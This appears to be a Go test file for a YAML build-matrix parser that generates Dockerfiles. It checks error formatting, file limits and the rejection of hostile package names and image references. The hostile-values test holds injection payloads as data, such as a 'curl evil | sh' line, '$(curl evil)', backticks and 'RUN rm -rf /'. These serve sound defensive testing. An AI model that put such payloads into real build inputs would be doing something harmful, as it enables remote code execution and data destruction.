package matrix

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A hostile package name must be refused with its position, so that it can
// never reach a generated Dockerfile.
func TestHostileValues(t *testing.T) {
	tests := []struct{ name, yaml, want string }{
		{"deb with a new instruction",
			"build: {deps: {deb: [\"libfoo\\nRUN curl evil | sh\"]}}",
			`inline.yaml:5:22: build.deps.deb[0]: invalid Debian package name "libfoo\nRUN curl evil | sh": contains a line break`},
		{"rpm with a command",
			"build: {deps: {rpm: [\"gcc; curl evil | sh\"]}}",
			`inline.yaml:5:22: build.deps.rpm[0]: invalid RPM package name "gcc; curl evil | sh": contains ';'`},
		{"rpm substitution",
			"build: {deps: {rpm: [\"$(curl evil)\"]}}",
			`inline.yaml:5:22: build.deps.rpm[0]: invalid RPM package name "$(curl evil)": contains '$'`},
		{"deb backticks",
			"build: {deps: {deb: [\"lib`id`\"]}}",
			"inline.yaml:5:22: build.deps.deb[0]: invalid Debian package name \"lib`id`\": contains '`'"},
		{"image with a second line",
			"test: {docker: true, preload: [\"mariadb:10.11\\nRUN rm -rf /\"]}",
			`inline.yaml:5:32: test.preload[0]: invalid image reference "mariadb:10.11\nRUN rm -rf /": contains a line break`},
		{"image with a quote",
			"test: {docker: true, preload: [\"mariadb:10.11'\"]}",
			`inline.yaml:5:32: test.preload[0]: invalid image reference "mariadb:10.11'": contains '\''`},
		{"override deps are checked too",
			"overrides:\n  - match: {distro: debian:bookworm}\n    build: {deps: {deb: [\"a&&b\"]}}",
			`inline.yaml:7:26: overrides[0].build.deps.deb[0]: invalid Debian package name "a&&b": contains '&'`},
		{"override preload is checked too",
			"overrides:\n  - match: {distro: debian:bookworm}\n    test: {docker: true, preload: [\"x|y\"]}",
			`inline.yaml:7:36: overrides[0].test.preload[0]: invalid image reference "x|y": contains '|'`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := parse(t, head+"matrix: {distro: [debian:bookworm]}\n"+tt.yaml)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v\nwant %s", err, tt.want)
			}
		})
	}
}

func TestErrorFormat(t *testing.T) {
	for _, tt := range []struct {
		e    Error
		want string
	}{
		{Error{"m.yaml", 3, 5, "bad"}, "m.yaml:3:5: bad"},
		{Error{"m.yaml", 3, 0, "bad"}, "m.yaml:3: bad"},
		{Error{"m.yaml", 0, 0, "bad"}, "m.yaml: bad"},
		{Error{"", 0, 0, "bad"}, "bad"},
	} {
		if got := tt.e.Error(); got != tt.want {
			t.Errorf("%+v = %q, want %q", tt.e, got, tt.want)
		}
	}
}

// Every problem is on its own line, sorted by position, whatever the values.
func TestProblemsOneLineSorted(t *testing.T) {
	yaml := "name: \"x\\ny\"\nversion: \"1\\n2\"\nmatrix:\n  \"a\\nb\": [x]\n  distro: [\"nope\\nRUN x\"]\nzzz: 1\naaa: 2\n"
	_, err := Parse("m.yaml", []byte(yaml), testDistros)
	if err == nil {
		t.Fatal("no error")
	}
	lines := strings.Split(err.Error(), "\n")
	problems := Problems(err)
	if len(lines) != len(problems) || len(lines) < 5 {
		t.Fatalf("%d lines, %d problems:\n%v", len(lines), len(problems), err)
	}
	for i, p := range problems {
		if !strings.HasPrefix(lines[i], "m.yaml:") {
			t.Errorf("line %d has no position: %q", i, lines[i])
		}
		if i > 0 && (p.Line < problems[i-1].Line || p.Line == problems[i-1].Line && p.Col < problems[i-1].Col) {
			t.Errorf("not sorted: %v before %v", problems[i-1], p)
		}
	}
}

func TestLoadFileErrors(t *testing.T) {
	if _, err := Load(filepath.Join(t.TempDir(), "missing.yaml")); !os.IsNotExist(err) {
		t.Errorf("missing file: err = %v", err)
	}
	big := filepath.Join(t.TempDir(), "big.yaml")
	if err := os.WriteFile(big, make([]byte, maxFileSize+1), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(big); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("big file: err = %v", err)
	}
}

func TestComments(t *testing.T) {
	_, err := Parse("m.yaml", []byte("# nothing but a comment\n"), testDistros)
	if err == nil || err.Error() != "m.yaml: the file is empty" {
		t.Errorf("err = %v", err)
	}
}
